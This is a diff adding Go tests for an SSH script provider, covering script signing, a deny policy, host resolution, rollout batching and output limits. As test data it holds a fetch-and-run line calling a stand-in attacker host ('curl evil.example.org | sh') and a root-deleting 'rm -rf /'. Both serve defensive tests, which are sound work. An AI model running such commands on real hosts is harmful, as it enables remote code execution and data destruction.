+			} else {
+				if got.o, err = e.Observe(context.Background(), tc.cr); err != nil {
+					t.Fatalf("\n%s\ne.Observe(...): unexpected error: %v\n", tc.reason, err)
+				}
+				got.ready = tc.cr.GetCondition(xpv1.TypeReady)
+			}
+			if diff := cmp.Diff(tc.want, got, cmp.AllowUnexported(want{}), test.EquateConditions()); diff != "" {
+				t.Errorf("\n%s\nc.Connect(...), e.Observe(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestConnectSignature(t *testing.T) {
+	kube := &test.MockClient{
+		MockGet: func(_ context.Context, _ client.ObjectKey, obj client.Object) error {
+			switch o := obj.(type) {
+			case *apisv1alpha1.ProviderConfig:
+				o.Spec.Credentials.Source = xpv1.CredentialsSourceSecret
+				o.Spec.Credentials.SecretRef = &xpv1.SecretKeySelector{Key: "config"}
+			case *corev1.Secret:
+				o.Data = map[string][]byte{"config": []byte(`{"hostIP":"10.0.0.1","hostPort":"22","username":"admin"}`)}
+			}
+			return nil
+		},
+	}
+	key, err := openpgp.NewEntity("ops", "", "ops@example.org", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var keyring bytes.Buffer
+	if err := key.Serialize(&keyring); err != nil {
+		t.Fatal(err)
+	}
+	verifier, err := signature.NewVerifier(keyring.Bytes())
+	if err != nil {
+		t.Fatal(err)
+	}
+	signed := func(cr *apisv1alpha1.Script) {
+		scripts, _ := signature.Scripts(cr)
+		var sig bytes.Buffer
+		if err := openpgp.ArmoredDetachSign(&sig, key, bytes.NewReader(signature.Payload(scripts)), nil); err != nil {
+			t.Fatal(err)
+		}
+		meta.AddAnnotations(cr, map[string]string{apisv1alpha1.AnnotationKeySignature: sig.String()})
+	}
+
+	cases := map[string]struct {
+		reason   string
+		verifier *signature.Verifier
+		mods     []scriptModifier
+		wantDial bool
+		wantErr  bool
+	}{
+		"NoPolicy": {
+			reason:   "Unsigned scripts should be executed when no keyring is configured.",
+			wantDial: true,
+		},
+		"Signed": {
+			reason:   "Scripts signed by a trusted key should be executed.",
+			verifier: verifier,
+			mods:     []scriptModifier{signed},
+			wantDial: true,
+		},
+		"Unsigned": {
+			reason:   "Unsigned scripts should not be executed, the host not even being connected to.",
+			verifier: verifier,
+			wantErr:  true,
+		},
+		"Tampered": {
+			reason:   "Scripts changed after being signed should not be executed.",
+			verifier: verifier,
+			mods:     []scriptModifier{signed, func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.InitScript = "curl evil.example.org | sh" }},
+			wantErr:  true,
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			dialed := false
+			c := &connector{
+				kube:     kube,
+				usage:    resource.TrackerFn(func(_ context.Context, _ resource.Managed) error { return nil }),
+				verifier: tc.verifier,
+				newServiceFn: func(_ context.Context, _ []byte) (*ssh.Client, error) {
+					dialed = true
+					return nil, nil
+				},
+			}
+			cr := script(append([]scriptModifier{func(cr *apisv1alpha1.Script) {
+				cr.Spec.ForProvider.InitScript = "touch /tmp/ready"
+				cr.SetProviderConfigReference(&xpv1.Reference{Name: "default"})
+			}}, tc.mods...)...)
+			_, err := c.Connect(context.Background(), cr)
+			if gotErr := err != nil; gotErr != tc.wantErr {
+				t.Errorf("\n%s\nc.Connect(...): error %v, want error %t\n", tc.reason, err, tc.wantErr)
+			}
+			if dialed != tc.wantDial {
+				t.Errorf("\n%s\nc.Connect(...): dialed %t, want %t\n", tc.reason, dialed, tc.wantDial)
+			}
+		})
+	}
+}
+
+func TestConnectPolicy(t *testing.T) {
+	kube := &test.MockClient{
+		MockGet: func(_ context.Context, _ client.ObjectKey, obj client.Object) error {
+			switch o := obj.(type) {
+			case *apisv1alpha1.ProviderConfig:
+				o.Spec.Credentials.Source = xpv1.CredentialsSourceSecret
+				o.Spec.Credentials.SecretRef = &xpv1.SecretKeySelector{Key: "config"}
+			case *corev1.Secret:
+				o.Data = map[string][]byte{"config": []byte(`{"hostIP":"10.0.0.1","hostPort":"22","username":"admin"}`)}
+			}
+			return nil
+		},
+	}
+
+	cases := map[string]struct {
+		reason   string
+		policy   *policy.Policy
+		script   string
+		strict   bool
+		wantDial bool
+		wantErr  error
+	}{
+		"Accepted": {
+			reason:   "Scripts that do not violate the policy should be executed.",
+			policy:   policy.New(policy.DefaultRules, nil),
+			script:   "rm -rf /opt/app",
+			wantDial: true,
+		},
+		"Rejected": {
+			reason:  "Scripts violating the policy should not be executed, the host not even being connected to.",
+			policy:  policy.New(policy.DefaultRules, nil),
+			script:  "rm -rf /",
+			wantErr: errors.Wrap(errors.New("scripts violate the policy: initScript: deletes the root filesystem (rm-root)"), errPolicy),
+		},
+		"NoPolicy": {
+			reason:   "Every script should be executed without a policy.",
+			script:   "rm -rf /",
+			wantDial: true,
+		},
+		"DefaultPreamble": {
+			reason: "The strictModePreamble the scripts are executed with should be evaluated when it is defaulted.",
+			policy: policy.New([]policy.Rule{{
+				Name:    "pipefail",
+				Pattern: regexp.MustCompile(`pipefail`),
+				Message: "sets pipefail",
+			}}, nil),
+			script:  "make install",
+			strict:  true,
+			wantErr: errors.Wrap(errors.New("scripts violate the policy: strictModePreamble: sets pipefail (pipefail)"), errPolicy),
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			dialed := false
+			c := &connector{
+				kube:   kube,
+				usage:  resource.TrackerFn(func(_ context.Context, _ resource.Managed) error { return nil }),
+				policy: tc.policy,
+				newServiceFn: func(_ context.Context, _ []byte) (*ssh.Client, error) {
+					dialed = true
+					return nil, nil
+				},
+			}
+			cr := script(func(cr *apisv1alpha1.Script) {
+				cr.Spec.ForProvider.InitScript = tc.script
+				cr.Spec.ForProvider.StrictMode = tc.strict
+				cr.SetProviderConfigReference(&xpv1.Reference{Name: "default"})
+			})
+			_, err := c.Connect(context.Background(), cr)
+			if diff := cmp.Diff(tc.wantErr, err, test.EquateErrors()); diff != "" {
+				t.Errorf("\n%s\nc.Connect(...): -want error, +got error:\n%s\n", tc.reason, diff)
+			}
+			if dialed != tc.wantDial {
+				t.Errorf("\n%s\nc.Connect(...): dialed %t, want %t\n", tc.reason, dialed, tc.wantDial)
+			}
+		})
+	}
+}
+
+func withHosts(names ...string) scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		for _, n := range names {
+			cr.Spec.ForProvider.Hosts = append(cr.Spec.ForProvider.Hosts, apisv1alpha1.HostReference{Name: n})
+		}
+	}
+}
+
+func withHostSelector(labels map[string]string) scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		cr.Spec.ForProvider.HostSelector = &metav1.LabelSelector{MatchLabels: labels}
+	}
+}
+
+func withSuccessThreshold(v intstr.IntOrString) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.SuccessThreshold = &v }
+}
+
+func TestResolveHosts(t *testing.T) {
+	list := func(pcs []string, hosts []string) test.MockListFn {
+		return func(_ context.Context, obj client.ObjectList, _ ...client.ListOption) error {
+			switch l := obj.(type) {
+			case *apisv1alpha1.ProviderConfigList:
+				for _, n := range pcs {
+					pc := apisv1alpha1.ProviderConfig{}
+					pc.SetName(n)
+					l.Items = append(l.Items, pc)
+				}
+			case *apisv1alpha1.HostList:
+				for _, n := range hosts {
+					h := apisv1alpha1.Host{}
+					h.SetName(n)
+					l.Items = append(l.Items, h)
+				}
+			}
+			return nil
+		}
+	}
+
+	type want struct {
+		hosts []string
+		err   error
+	}
+
+	cases := map[string]struct {
+		reason string
+		kube   client.Client
+		cr     *apisv1alpha1.Script
+		want   want
+	}{
+		"List": {
+			reason: "Listed hosts should be returned sorted.",
+			cr:     script(withHosts("b", "a")),
+			want:   want{hosts: []string{"a", "b"}},
+		},
+		"Selector": {
+			reason: "Selected hosts should be merged with the listed hosts without duplicates.",
+			kube:   &test.MockClient{MockList: list([]string{"c", "a"}, nil)},
+			cr:     script(withHosts("a"), withHostSelector(map[string]string{"role": "web"})),
+			want:   want{hosts: []string{"a", "c"}},
+		},
+		"Inventory": {
+			reason: "Selected Hosts should be told apart from ProviderConfigs of the same name.",
+			kube:   &test.MockClient{MockList: list([]string{"a"}, []string{"a", "b"})},
+			cr:     script(withHostSelector(map[string]string{"role": "web"})),
+			want:   want{hosts: []string{"Host/a", "Host/b", "a"}},
+		},
+		"ListError": {
+			reason: "We should return an error if the selected hosts cannot be listed.",
+			kube:   &test.MockClient{MockList: test.NewMockListFn(errBoom)},
+			cr:     script(withHostSelector(map[string]string{"role": "web"})),
+			want:   want{err: errors.Wrap(errBoom, "cannot list host ProviderConfigs and Hosts")},
+		},
+		"HostGroup": {
+			reason: "HostGroups should be expanded to their listed and selected Hosts.",
+			kube: &test.MockClient{
+				MockGet: func(_ context.Context, _ client.ObjectKey, obj client.Object) error {
+					g := obj.(*apisv1alpha1.HostGroup)
+					g.Spec.Hosts = []string{"a"}
+					g.Spec.HostSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"role": "web"}}
+					return nil
+				},
+				MockList: list(nil, []string{"a", "b"}),
+			},
+			cr: script(func(cr *apisv1alpha1.Script) {
+				cr.Spec.ForProvider.Hosts = []apisv1alpha1.HostReference{{Kind: apisv1alpha1.HostGroupKind, Name: "web"}}
+			}),
+			want: want{hosts: []string{"Host/a", "Host/b"}},
+		},
+		"HostGroupError": {
+			reason: "We should return an error if a HostGroup cannot be read.",
+			kube:   &test.MockClient{MockGet: test.NewMockGetFn(errBoom)},
+			cr: script(func(cr *apisv1alpha1.Script) {
+				cr.Spec.ForProvider.Hosts = []apisv1alpha1.HostReference{{Kind: apisv1alpha1.HostGroupKind, Name: "web"}}
+			}),
+			want: want{err: errors.Wrap(errBoom, "cannot get HostGroup")},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			got, err := resolveHosts(context.Background(), tc.kube, tc.cr)
+			if diff := cmp.Diff(tc.want.err, err, test.EquateErrors()); diff != "" {
+				t.Errorf("\n%s\nresolveHosts(...): -want error, +got error:\n%s\n", tc.reason, diff)
+			}
+			if diff := cmp.Diff(tc.want.hosts, got, cmpopts.EquateEmpty()); diff != "" {
+				t.Errorf("\n%s\nresolveHosts(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestReport(t *testing.T) {
+	results := map[string]apisv1alpha1.HostStatus{
+		"a": {Name: "a", Ready: true},
+		"b": {Name: "b", Ready: true},
+		"c": {Name: "c", StatusCode: 2},
+	}
+
+	cases := map[string]struct {
+		reason string
+		cr     *apisv1alpha1.Script
+		want   error
+	}{
+		"AllHostsRequired": {
+			reason: "Without a success threshold every host must be ready.",
+			cr:     script(withHosts("a", "b", "c")),
+			want:   errors.Errorf(errFmtHostsNotReady, 2, 3, 3),
+		},
+		"CountThreshold": {
+			reason: "The Script should be ready once the number of ready hosts reaches the threshold.",
+			cr:     script(withHosts("a", "b", "c"), withSuccessThreshold(intstr.FromInt(2))),
+		},
+		"PercentThreshold": {
+			reason: "Percentage thresholds should be rounded up.",
+			cr:     script(withHosts("a", "b", "c"), withSuccessThreshold(intstr.FromString("70%"))),
+			want:   errors.Errorf(errFmtHostsNotReady, 2, 3, 3),
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			e := &fanOutExternal{hosts: []string{"a", "b", "c"}, results: results}
+			err := e.report(tc.cr)
+			if diff := cmp.Diff(tc.want, err, test.EquateErrors()); diff != "" {
+				t.Errorf("\n%s\ne.report(...): -want error, +got error:\n%s\n", tc.reason, diff)
+			}
+			if diff := cmp.Diff(3, len(tc.cr.Status.AtProvider.Hosts)); diff != "" {
+				t.Errorf("\n%s\ne.report(...): -want hosts, +got hosts:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func withRollout(r apisv1alpha1.RolloutStrategy) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.Rollout = &r }
+}
+
+func TestBatch(t *testing.T) {
+	two := 2
+	hosts := []string{"a", "b", "c", "d", "e"}
+	pending := map[string]checkResult{
+		"a": {}, "b": {}, "c": {}, "d": {exists: true, upToDate: true}, "e": {exists: true, upToDate: true},
+	}
+
+	cases := map[string]struct {
+		reason  string
+		cr      *apisv1alpha1.Script
+		results map[string]apisv1alpha1.HostStatus
+		want    []string
+	}{
+		"NoRollout": {
+			reason: "Without a rollout strategy every pending host should be executed at once.",
+			cr:     script(),
+			want:   []string{"a", "b", "c"},
+		},
+		"BatchSize": {
+			reason: "No more hosts than the batch size should be executed at once.",
+			cr:     script(withRollout(apisv1alpha1.RolloutStrategy{BatchSize: &two})),
+			want:   []string{"a", "b"},
+		},
+		"MaxUnavailable": {
+			reason: "Hosts that are unavailable for other reasons should count against maxUnavailable.",
+			cr: script(withRollout(apisv1alpha1.RolloutStrategy{
+				MaxUnavailable: func() *intstr.IntOrString { v := intstr.FromString("40%"); return &v }(),
+			})),
+			results: map[string]apisv1alpha1.HostStatus{"d": {Name: "d", Ready: true}, "e": {Name: "e"}},
+			want:    []string{"a"},
+		},
+		"PauseOnFailure": {
+			reason:  "No host should be executed while another host failed.",
+			cr:      script(withRollout(apisv1alpha1.RolloutStrategy{PauseOnFailure: true})),
+			results: map[string]apisv1alpha1.HostStatus{"d": {Name: "d", Ready: true}, "e": {Name: "e"}},
+			want:    nil,
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			results := map[string]apisv1alpha1.HostStatus{"d": {Name: "d", Ready: true}, "e": {Name: "e", Ready: true}}
+			if tc.results != nil {
+				results = tc.results
+			}
+			e := &fanOutExternal{hosts: hosts, results: results, observed: pending, clients: map[string]sshv1alpha1.RemoteExecutor{}}
+			for _, n := range hosts {
+				e.clients[n] = nil
+			}
+			got := e.batch(tc.cr, []string{"a", "b", "c"})
+			if diff := cmp.Diff(tc.want, got, cmpopts.EquateEmpty()); diff != "" {
+				t.Errorf("\n%s\ne.batch(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestStatusCheckResult(t *testing.T) {
+	missing, custom := 3, apisv1alpha1.ScriptParameters{ExitCodes: &apisv1alpha1.StatusCheckExitCodes{}}
+	custom.ExitCodes.Missing = &missing
+	custom.ExitCodes.Failed = []int{2, 4}
+
+	cases := map[string]struct {
+		reason string
+		p      apisv1alpha1.ScriptParameters
+		code   int
+		want   checkResult
+	}{
+		"Ready": {
+			reason: "Exit code 0 should report an existing resource that is up to date.",
+			code:   0,
+			want:   checkResult{exists: true, upToDate: true},
+		},
+		"Failed": {
+			reason: "Exit code 1 should not trigger any script.",
+			code:   1,
+			want:   checkResult{exists: true, upToDate: true},
+		},
+		"Missing": {
+			reason: "Exit code 100 should report a resource that does not exist.",
+			code:   100,
+			want:   checkResult{},
+		},
+		"Drifted": {
+			reason: "Any other exit code should report a resource that is not up to date.",
+			code:   105,
+			want:   checkResult{exists: true},
+		},
+		"CustomFailed": {
+			reason: "Any of the configured failed exit codes should not trigger any script.",
+			p:      custom,
+			code:   4,
+			want:   checkResult{exists: true, upToDate: true},
+		},
+		"CustomMissing": {
+			reason: "The configured missing exit code should report a resource that does not exist.",
+			p:      custom,
+			code:   3,
+			want:   checkResult{},
+		},
+		"DefaultsReplaced": {
+			reason: "The default exit codes should report drift once other exit codes are configured.",
+			p:      custom,
+			code:   100,
+			want:   checkResult{exists: true},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			got := statusCheckResult(tc.p, tc.code)
+			if diff := cmp.Diff(tc.want, got, cmp.AllowUnexported(checkResult{})); diff != "" {
+				t.Errorf("\n%s\nstatusCheckResult(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestTail(t *testing.T) {
+	long := strings.Repeat("a", maxEventOutput) + "end"
+
+	cases := map[string]struct {
+		reason string
+		out    string
+		want   string
+	}{
+		"Short": {
+			reason: "Short output should be returned unchanged.",
+			out:    "changed: /etc/motd",
+			want:   "changed: /etc/motd",
+		},
+		"Long": {
+			reason: "Long output should be truncated to its end.",
+			out:    long,
+			want:   "..." + long[len(long)-maxEventOutput:],
+		},
+		"MultiByte": {
+			reason: "Long output should be truncated at the start of a character, the one cut being dropped.",
+			out:    "完了" + strings.Repeat("a", maxEventOutput-2),
+			want:   "..." + strings.Repeat("a", maxEventOutput-2),
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			if diff := cmp.Diff(tc.want, tail(tc.out)); diff != "" {
+				t.Errorf("\n%s\ntail(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestLimitOutput(t *testing.T) {
+	long := strings.Repeat("a", apisv1alpha1.DefaultMaxOutputBytes) + "end"
+	limit := int64(4)
+
+	cases := map[string]struct {
+		reason string
+		p      apisv1alpha1.ScriptParameters
+		def    int64
+		out    string
+		want   string
+	}{
+		"Default": {
+			reason: "Output longer than the default limit should be truncated to its end.",
+			out:    long,
+			want:   long[3:],
+		},
+		"ProviderDefault": {
+			reason: "The default limit of the provider should apply to Scripts without maxOutputBytes.",
+			def:    limit,
+			out:    "changed: /etc/motd",
+			want:   "motd",
+		},
+		"OverridesProviderDefault": {
+			reason: "The maxOutputBytes of a Script should override the default limit of the provider.",
+			p:      apisv1alpha1.ScriptParameters{MaxOutputBytes: &limit},
+			def:    1,
+			out:    "changed: /etc/motd",
+			want:   "motd",
+		},
+		"Short": {
+			reason: "Output within the limit should be returned unchanged.",
+			p:      apisv1alpha1.ScriptParameters{MaxOutputBytes: &limit},
+			out:    "done",
+			want:   "done",
+		},
+		"Limited": {
+			reason: "Output longer than maxOutputBytes should be truncated to its end.",
+			p:      apisv1alpha1.ScriptParameters{MaxOutputBytes: &limit},
+			out:    "changed: /etc/motd",
+			want:   "motd",
+		},
+		"Multibyte": {
+			reason: "Output should be truncated at the start of a character, so that it stays valid UTF-8.",
+			p:      apisv1alpha1.ScriptParameters{MaxOutputBytes: &limit},
+			out:    "状態: 完了",
+			want:   "了",
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			if diff := cmp.Diff(tc.want, limitOutput(tc.p, tc.def, tc.out)); diff != "" {
+				t.Errorf("\n%s\nlimitOutput(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestRecordStdout(t *testing.T) {
+	many := strings.Repeat("line\n", apisv1alpha1.MaxStdoutLines) + "last\n"
+	lines := func(f apisv1alpha1.StdoutFormat) scriptModifier {
+		return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.StdoutFormat = f }
+	}
+
+	type want struct {
+		stdout string
+		lines  []string
+	}
+	cases := map[string]struct {
+		reason string
+		cr     *apisv1alpha1.Script
+		out    string
+		want   want
+	}{
+		"Text": {
+			reason: "The stdout should be recorded as a string by default.",
+			cr:     script(),
+			out:    "ready\n",
+			want:   want{stdout: "ready\n"},
+		},
+		"Lines": {
+			reason: "The stdout should be recorded as its lines with the Lines stdoutFormat.",
+			cr:     script(lines(apisv1alpha1.StdoutFormatLines)),
+			out:    "version=1.2.3\nstate=active\n",
+			want:   want{lines: []string{"version=1.2.3", "state=active"}},
+		},
+		"Unterminated": {
+			reason: "The last line should be recorded without a trailing newline.",
+			cr:     script(lines(apisv1alpha1.StdoutFormatLines)),
+			out:    "a\n\nb",
+			want:   want{lines: []string{"a", "", "b"}},
+		},
+		"Empty": {
+			reason: "An empty stdout should record no lines.",
+			cr:     script(lines(apisv1alpha1.StdoutFormatLines)),
+			want:   want{},
+		},
+		"TooManyLines": {
+			reason: "Only the last lines of a long stdout should be recorded.",
+			cr:     script(lines(apisv1alpha1.StdoutFormatLines)),
+			out:    many,
+			want:   want{lines: append(strings.Fields(strings.Repeat("line ", apisv1alpha1.MaxStdoutLines-1)), "last")},
+		},
+		"BackToText": {
+			reason: "The lines recorded with the Lines stdoutFormat should be cleared once the stdout is recorded as a string.",
+			cr: script(func(cr *apisv1alpha1.Script) {
+				cr.Status.AtProvider.StdoutLines = []string{"old"}
+			}),
+			out:  "new\n",
+			want: want{stdout: "new\n"},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			e := external{}
+			e.recordStdout(tc.cr, tc.out)
+			a := tc.cr.Status.AtProvider
+			got := want{stdout: a.Stdout, lines: a.StdoutLines}
+			if diff := cmp.Diff(tc.want, got, cmp.AllowUnexported(want{})); diff != "" {
+				t.Errorf("\n%s\ne.recordStdout(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestWithDefaults(t *testing.T) {
+	yes, no := true, false
+	timeout, pcTimeout, pcLimit := int64(30), int64(120), int64(1<<10)
+	defaults := &apisv1alpha1.ScriptDefaults{
+		SudoEnabled:    &yes,
+		Interpreter:    "/bin/bash",
+		RemoteTempDir:  "/var/tmp",
+		TimeoutSeconds: &pcTimeout,
+		MaxOutputBytes: &pcLimit,
+	}
+
+	cases := map[string]struct {
+		reason   string
+		p        apisv1alpha1.ScriptParameters
+		defaults *apisv1alpha1.ScriptDefaults
+		want     apisv1alpha1.ScriptParameters
+	}{
+		"NoDefaults": {
+			reason: "The parameters should be unchanged if the ProviderConfig has no defaults.",
+			p:      apisv1alpha1.ScriptParameters{InitScript: "true"},
+			want:   apisv1alpha1.ScriptParameters{InitScript: "true"},
+		},
+		"Inherited": {
+			reason:   "The unset execution settings should be taken from the defaults of the ProviderConfig.",
+			p:        apisv1alpha1.ScriptParameters{InitScript: "true"},
+			defaults: defaults,
+			want: apisv1alpha1.ScriptParameters{
+				InitScript:     "true",
+				SudoEnabled:    &yes,
+				Interpreter:    "/bin/bash",
+				RemoteTempDir:  "/var/tmp",
+				TimeoutSeconds: &pcTimeout,
+				MaxOutputBytes: &pcLimit,
+			},
+		},
+		"Overridden": {
+			reason:   "The execution settings of the Script should take precedence, including sudoEnabled set to false.",
+			p:        apisv1alpha1.ScriptParameters{SudoEnabled: &no, Interpreter: "/bin/sh", TimeoutSeconds: &timeout},
+			defaults: defaults,
+			want: apisv1alpha1.ScriptParameters{
+				SudoEnabled:    &no,
+				Interpreter:    "/bin/sh",
+				RemoteTempDir:  "/var/tmp",
+				TimeoutSeconds: &timeout,
+				MaxOutputBytes: &pcLimit,
+			},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			if diff := cmp.Diff(tc.want, withDefaults(tc.p, tc.defaults)); diff != "" {
+				t.Errorf("\n%s\nwithDefaults(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+// sshServer starts an SSH server accepting any password and returns its
+// address and host key.
+func sshServer(t *testing.T) (string, ssh.PublicKey) {
+	t.Helper()
+	_, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signer, err := ssh.NewSignerFromKey(priv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = l.Close() })
+
+	go func() {
+		config := &ssh.ServerConfig{
+			PasswordCallback: func(ssh.ConnMetadata, []byte) (*ssh.Permissions, error) { return nil, nil },
+		}
+		config.AddHostKey(signer)
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer conn.Close() // nolint: errcheck
+				if sc, chans, reqs, err := ssh.NewServerConn(conn, config); err == nil {
+					go ssh.DiscardRequests(reqs)
+					for ch := range chans {
+						_ = ch.Reject(ssh.Prohibited, "no channels")
+					}
+					_ = sc.Wait()
+				}
+			}()
+		}
+	}()
+	return l.Addr().String(), signer.PublicKey()
+}
+
+func TestConnectionDetails(t *testing.T) {
+	addr, hostKey := sshServer(t)
+	host, port, _ := net.SplitHostPort(addr)
+	hostPort, _ := sshv1alpha1.ParsePort(port)
+
+	dial := func(knownHosts string) sshv1alpha1.RemoteExecutor {
+		creds, _ := json.Marshal(sshv1alpha1.Config{RemoteHostIP: host, RemoteHostPort: hostPort, Username: "deploy", Password: "secret", KnownHosts: knownHosts})
+		svc, err := sshv1alpha1.NewSSHClient(context.Background(), creds)
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { _ = svc.Close() })
+		return sshv1alpha1.NewSSHExecutor(svc)
+	}
+	endpoint := managed.ConnectionDetails{
+		keyHost:               []byte(host),
+		keyPort:               []byte(port),
+		keyUsername:           []byte("deploy"),
+		keyHostKeyFingerprint: []byte(ssh.FingerprintSHA256(hostKey)),
+	}
+
+	cases := map[string]struct {
+		reason  string
+		service sshv1alpha1.RemoteExecutor
+		want    managed.ConnectionDetails
+	}{
+		"NotConnected": {
+			reason:  "No details should be published without a connection to the host.",
+			service: nil,
+			want:    managed.ConnectionDetails{},
+		},
+		"KnownHosts": {
+			reason:  "The endpoint and the fingerprint of the verified host key should be published.",
+			service: dial(knownhosts.Line([]string{knownhosts.Normalize(addr)}, hostKey)),
+			want:    endpoint,
+		},
+		"NoKnownHosts": {
+			reason:  "The fingerprint of the accepted host key should be published without known hosts.",
+			service: dial(""),
+			want:    endpoint,
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			if diff := cmp.Diff(tc.want, connectionDetails(tc.service)); diff != "" {
+				t.Errorf("\n%s\nconnectionDetails(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestRecordCheck(t *testing.T) {
+	addr, _ := sshServer(t)
+	host, port, _ := net.SplitHostPort(addr)
+	hostPort, _ := sshv1alpha1.ParsePort(port)
+	creds, _ := json.Marshal(sshv1alpha1.Config{RemoteHostIP: host, RemoteHostPort: hostPort, Username: "deploy", Password: "secret"})
+	svc, err := sshv1alpha1.NewSSHClient(context.Background(), creds)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = svc.Close() })
+
+	cases := map[string]struct {
+		reason  string
+		service sshv1alpha1.RemoteExecutor
+		want    string
+	}{
+		"NotConnected": {
+			reason:  "The host should not be recorded without a connection to the host.",
+			service: nil,
+			want:    "",
+		},
+		"Connected": {
+			reason:  "The host the Script is connected to should be recorded.",
+			service: sshv1alpha1.NewSSHExecutor(svc),
+			want:    host,
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			cr := script()
+			before := metav1.Now().Rfc3339Copy()
+			recordCheck(cr, tc.service)
+			if diff := cmp.Diff(tc.want, cr.Status.AtProvider.Host); diff != "" {
+				t.Errorf("\n%s\nrecordCheck(...): -want host, +got host:\n%s\n", tc.reason, diff)
+			}
+			if c := cr.Status.AtProvider.LastChecked; c == nil || c.Before(&before) {
+				t.Errorf("\n%s\nrecordCheck(...): want lastChecked after %s, got %v\n", tc.reason, before, c)
+			}
+		})
+	}
+}
+
+func withObserveOnly() scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		cr.SetManagementPolicies(xpv1.ManagementPolicies{xpv1.ManagementActionObserve})
+	}
+}
+
+func TestObserveOnly(t *testing.T) {
+	// Neither client has a connection to a host, so executing any script
+	// would panic.
+	clients := map[string]managed.ExternalClient{
+		"SingleHost": &external{},
+		"MultiHost":  &fanOutExternal{},
+	}
+
+	cases := map[string]struct {
+		reason string
+		fn     func(e managed.ExternalClient, cr *apisv1alpha1.Script) error
+		mg     *apisv1alpha1.Script
+		want   error
+	}{
+		"Create": {
+			reason: "The initScript should not be executed with the Observe management policy.",
+			fn: func(e managed.ExternalClient, cr *apisv1alpha1.Script) error {
+				_, err := e.Create(context.Background(), cr)
+				return err
+			},
+			mg:   script(withObserveOnly()),
+			want: errors.Errorf(errFmtNotAllowed, "init"),
+		},
+		"Update": {
+			reason: "The updateScript should not be executed with the Observe management policy.",
+			fn: func(e managed.ExternalClient, cr *apisv1alpha1.Script) error {
+				_, err := e.Update(context.Background(), cr)
+				return err
+			},
+			mg:   script(withObserveOnly()),
+			want: errors.Errorf(errFmtNotAllowed, "update"),
+		},
+		"Delete": {
+			reason: "The cleanupScript should not be executed with the Observe management policy.",
+			fn: func(e managed.ExternalClient, cr *apisv1alpha1.Script) error {
+				return e.Delete(context.Background(), cr)
+			},
+			mg:   script(withObserveOnly(), withCleanup("rm -f /tmp/file", apisv1alpha1.CleanupPolicyRun)),
+			want: errors.Errorf(errFmtNotAllowed, "cleanup"),
+		},
+	}
+
+	for client, e := range clients {
+		for name, tc := range cases {
+			t.Run(client+name, func(t *testing.T) {
+				err := tc.fn(e, tc.mg)
+				if diff := cmp.Diff(tc.want, err, test.EquateErrors()); diff != "" {
+					t.Errorf("\n%s\n%s(...): -want error, +got error:\n%s\n", tc.reason, name, diff)
+				}
+			})
+		}
+	}
+
+	t.Run("RunNow", func(t *testing.T) {
+		e := external{}
+		got, err := e.Observe(context.Background(), script(withObserveOnly(), withRunNow("a"), withLastRunNowToken("b")))
+		if err != nil {
+			t.Fatalf("e.Observe(...): %v", err)
+		}
+		want := managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true, ConnectionDetails: managed.ConnectionDetails{}}
+		if diff := cmp.Diff(want, got); diff != "" {
+			t.Errorf("\nA run requested through annotation should be ignored with the Observe management policy.\ne.Observe(...): -want, +got:\n%s\n", diff)
+		}
+	})
+
+	t.Run("DiffScript", func(t *testing.T) {
+		cr := script(withObserveOnly())
+		cr.Spec.ForProvider.DiffScript = "diff -u /etc/motd /tmp/motd"
+		e := external{}
+		e.reportDrift(context.Background(), cr)
+		if diff := cmp.Diff("", cr.Status.AtProvider.Diff); diff != "" {
+			t.Errorf("\nThe diffScript should not be executed with the Observe management policy.\nreportDrift(...): -want, +got:\n%s\n", diff)
+		}
+	})
+}
+
+func withExternalName(name string) scriptModifier {
